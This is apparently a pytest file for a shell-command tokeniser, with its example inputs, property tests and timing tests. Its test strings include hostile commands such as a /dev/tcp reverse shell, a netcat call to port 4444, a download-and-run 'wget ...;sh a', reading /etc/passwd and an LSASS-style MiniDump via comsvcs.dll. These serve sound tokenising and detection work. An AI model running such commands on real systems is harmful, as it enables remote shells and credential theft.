"""The study's tokens, in Python and in Rust."""

import re
import time

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ttpline.commands.tokens import TOKEN_PATTERN, token_lists, tokenise, tokens_with_spans

STUDY = [
    ("cat /etc/passwd", ["cat", "/etc/passwd"]),
    ("ssh user@10.35.108.10:22", ["ssh", "user@10.35.108.10", "22"]),
    ("wget http://malicious.com", ["wget", "http://malicious.com"]),
    ("ls --color=auto", ["ls", "--color=auto"]),
    ("ls -la", ["ls", "-la"]),
    ("echo $HOME", ["echo", "$home"]),
    ("echo ${PATH}", ["echo", "${path}"]),
    ("cat /tmp/file[1].txt", ["cat", "/tmp/file[1].txt"]),
]

ARGUED = [
    # addresses
    ("ping 192.0.2.1", ["ping", "192.0.2.1"]),
    ("nc 192.0.2.1:4444", ["nc", "192.0.2.1", "4444"]),
    ("ping6 2001:db8::1", ["ping6", "2001:db8::1"]),
    ("ping6 fe80::1%eth0 ::1", ["ping6", "fe80::1%eth0", "::1"]),
    ("ip a add 2001:db8:0:0:0:0:0:1/64", ["ip", "a", "add", "2001:db8:0:0:0:0:0:1/64"]),
    ("curl [2001:db8::1]:443", ["curl", "[2001:db8::1]", "443"]),
    ("x ::ffff:192.0.2.1", ["x", "::ffff:192.0.2.1"]),
    ("ip link set eth0 address 02:00:5e:10:00:ff", ["ip", "link", "set", "eth0", "address", "02:00:5e:10:00:ff"]),
    ("scp a root@example.com:/tmp/a", ["scp", "a", "root@example.com", "/tmp/a"]),
    ("ssh -L 8080:127.0.0.1:80 u@h", ["ssh", "-l", "8080", "127.0.0.1", "80", "u@h"]),
    # URLs stay whole, the shell's operators end them
    ("curl http://Example.com:8080/a?b=1&c=2#d", ["curl", "http://example.com:8080/a?b=1&c=2#d"]),
    ("wget http://example.com/a;sh a", ["wget", "http://example.com/a", ";", "sh", "a"]),
    ("wget http://example.com/a&& sh a", ["wget", "http://example.com/a", "&&", "sh", "a"]),
    ("x --proxy=http://u:p@h:1/x", ["x", "--proxy=http://u:p@h:1/x"]),
    # quotes are no part of a token: argv, which has none, must give the same tokens
    ("grep 'root user' \"/etc/passwd\"", ["grep", "root", "user", "/etc/passwd"]),
    ("grep root\0/etc/passwd\0", ["grep", "root", "/etc/passwd"]),
    # operators are tokens, a run of them is one
    ("a|b", ["a", "|", "b"]),
    ("a && b || c", ["a", "&&", "b", "||", "c"]),
    ("sh -i >& /dev/tcp/192.0.2.1/44 0>&1", ["sh", "-i", ">&", "/dev/tcp/192.0.2.1/44", "0", ">&", "1"]),
    ("echo $(id) `id`", ["echo", "$", "id", "id"]),
    # Windows
    (r"C:\Windows\System32\cmd.exe /c", [r"c:\windows\system32\cmd.exe", "/c"]),
    (r"x --out=C:\Temp\a C:/Temp/b", ["x", r"--out=c:\temp\a", "c:/temp/b"]),
    (r"reg query HKLM\SOFTWARE\Run", ["reg", "query", r"hklm\software\run"]),
    (r"gci HKLM:\SOFTWARE\Run", ["gci", r"hklm:\software\run"]),
    (r"dir \\192.0.2.1\c$\x", ["dir", r"\\192.0.2.1\c$\x"]),
    (r"$env:TEMP\a.exe %APPDATA%\b ${env:X}", [r"$env:temp\a.exe", r"%appdata%\b", "${env:x}"]),
    ("[Convert]::FromBase64String($x)", ["[convert]", "frombase64string", "$x"]),
    ("rundll32 comsvcs.dll, MiniDump", ["rundll32", "comsvcs.dll", "minidump"]),
    # a flag and its value are two words, unless they are one
    ("tool --key value --key=value", ["tool", "--key", "value", "--key=value"]),
    # other alphabets; only what a shell calls blank separates
    ("echo naïve ÄÖ 漢字", ["echo", "naïve", "äö", "漢字"]),
    ("a\u00a0b c", ["a\u00a0b", "c"]),
    ("", []),
    (" \t\n", []),
]

TEXTS = st.one_of(
    st.text(st.characters(exclude_categories=["Cs"]), max_size=60),
    st.text("aAfF01:./\\[]$%&|;<>(){}'\"` ,=-@İΣé\x00\x7f\u00a0\u2028ſK", max_size=60),
)


@pytest.mark.parametrize(("text", "expected"), STUDY)
def test_the_examples_of_the_study_hold_exactly(text: str, expected: list[str]) -> None:
    assert tokenise(text) == expected


@pytest.mark.parametrize(("text", "expected"), ARGUED)
def test_what_the_study_left_open_is_as_argued_in_the_docs(text: str, expected: list[str]) -> None:
    assert tokenise(text) == expected


@pytest.mark.parametrize("lowercase", [True, False])
@given(texts=st.lists(TEXTS, max_size=8))
@settings(deadline=None)
def test_a_column_gives_what_each_row_gives(texts: list[str], lowercase: bool) -> None:
    column = token_lists(pl.Series(texts, dtype=pl.String), lowercase=lowercase)
    assert column.to_list() == [tokenise(text, lowercase=lowercase) for text in texts]


def test_a_null_has_no_tokens() -> None:
    assert token_lists(pl.Series(["a", None])).to_list() == [["a"], []]


@given(TEXTS)
@settings(deadline=None)
def test_offsets_slice_back_to_the_text_before_lower_casing(text: str) -> None:
    found = tokens_with_spans(text)
    assert [text[start:end].lower() for _, start, end in found] == [token for token, _, _ in found]
    assert [token for token, _, _ in found] == tokenise(text)
    ends = [0, *(end for _, _, end in found)]
    assert all(end <= start < stop for end, (_, start, stop) in zip(ends[:-1], found, strict=True))


def test_offsets_are_right_where_lower_case_is_longer() -> None:
    text = "İİ /etc/Passwd"
    assert tokens_with_spans(text)[1] == ("/etc/passwd", 3, 14)


def test_case_can_be_kept() -> None:
    assert tokenise("Cat /ETC", lowercase=False) == ["Cat", "/ETC"]


def test_nothing_but_separators_is_lost() -> None:
    left = re.sub(TOKEN_PATTERN, "", r"a:b, 'c' \"d\" (e) fe80::1 http://h/x?y&z | C:\x")
    assert set(left) <= set(" :,'\"()`")


HOSTILE = [
    "[",
    "[a:",
    "a:",
    "aaaa:",
    "::",
    "x://",
    "$env:",
    "&",
    "a://&",
    "1:1:1:1:1:",
    "\\:",
    "'",
    "é",
    "${env:",
    "::f",
]


@pytest.mark.fuzz
@pytest.mark.parametrize("unit", HOSTILE)
def test_time_is_linear_in_hostile_text(unit: str) -> None:
    def seconds(characters: int) -> float:
        text = unit * (characters // len(unit))
        best = float("inf")
        for _ in range(3):
            started = time.process_time()
            tokenise(text)
            best = min(best, time.process_time() - started)
        return best

    # Four times the text: quadratic time would be sixteen times as long. The floor absorbs the clock's grain.
    assert seconds(160_000) < 10 * max(seconds(40_000), 0.004)
